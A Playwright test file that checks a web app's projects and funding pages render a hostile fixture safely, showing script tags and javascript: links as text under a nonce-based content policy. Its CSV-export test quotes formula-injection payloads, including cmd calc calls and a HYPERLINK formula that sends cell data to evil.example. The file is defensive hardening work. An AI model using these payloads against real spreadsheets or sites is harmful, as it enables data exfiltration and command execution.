import { expect, test, type Page } from "@playwright/test";

// tests/fixtures/hostile/S99901-hostile.txt: formula-like names, markup in every text, a
// `javascript:` address; imported beside the seeds by the hardening server.
const HOSTILE_PAGES = [
  "/projects/S99901",
  "/en/projects/S99901",
  "/organisations/1234567-1",
  "/organisations/7654321-2",
  "/projects?q=HYPERLINK",
  "/compare?codes=S99901,S21894",
  "/funding",
  "/principles",
];

/** Every dialog and every Content-Security-Policy complaint the page raises while it lives. */
function watch(page: Page) {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("console", (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) seen.push(message.text());
  });
  return seen;
}

test("the hostile document's pages show its markup as text and run none of it", async ({ page }) => {
  const seen = watch(page);
  for (const path of HOSTILE_PAGES) {
    const response = await page.goto(path);
    expect(response?.status(), path).toBe(200);
    await page.waitForLoadState("networkidle");
    expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss), path).toBeUndefined();
    await expect(page.locator('a[href^="javascript:" i], iframe, svg[onload], img[onerror]')).toHaveCount(0);
    // Next's own scripts carry the request's nonce (no script runs without one).
    const scripts = await page
      .locator("script")
      .evaluateAll((all) => all.map((script) => (script as HTMLScriptElement).nonce !== ""));
    expect(scripts.length, path).toBeGreaterThan(0);
    expect(scripts.every(Boolean), path).toBe(true);
    // …and ran under the policy: Next's client started (it sets window.next).
    await expect.poll(() => page.evaluate(() => typeof (window as { next?: unknown }).next)).toBe("object");
  }
  expect(seen).toEqual([]);
});

test("the project page prints the hostile texts and shows the javascript: address as text", async ({
  page,
}) => {
  await page.goto("/projects/S99901");
  await expect(page.getByRole("heading", { level: 1 })).toContainText("<script>window.__xss=1</script>");
  await expect(page.getByText("javascript:alert(document.domain)")).toBeVisible();
  await expect(page.getByRole("link", { name: /javascript:/ })).toHaveCount(0);
  await expect(
    page.getByText('<a href="javascript:window.__xss=5">klikkaa</a>', { exact: false }),
  ).toBeVisible();
});

const csvLines = (text: string) =>
  text
    .replace(/^\ufeff/, "")
    .trim()
    .split(/\r?\n/);

test("its CSV cells are neutralised, its figures stay numbers", async ({ request }) => {
  const headers = { "X-Forwarded-For": "198.51.100.10" };
  const csv = await (await request.get("/api/projects.csv?q=S99901", { headers })).text();
  const row = csvLines(csv).find((line) => line.startsWith("S99901,"));
  expect(row).toBeDefined();
  expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Klikkaa"")`);
  expect(row).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0,`);
  expect(row).toContain(`"'+cmd|' /C calc'!A0 <img`);
  expect(row).toContain(`,'-2+3+cmd|' /C calc'!A0,`);
  expect(row).toContain(`"'=1+2 <svg`);
  expect(row).toContain(",1226328,810063,1532910,1012579,0.6606,0,18,350,,");

  for (const [table, cell] of [
    ["funding-orgtype", "'-2+3+cmd|' /C calc'!A0"],
    ["funding-authority", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ] as const) {
    const lines = csvLines(await (await request.get(`/api/tables/${table}.csv`, { headers })).text());
    const line = lines.find((candidate) => candidate.includes("cmd|"));
    expect(line, table).toBe(`${cell},1,1532910,1012579,0.6606,4380,2893`);
    // No cell of any line starts a formula.
    for (const l of lines) expect(l, table).not.toMatch(/(^|,)"?[=+\-@]/);
  }
});
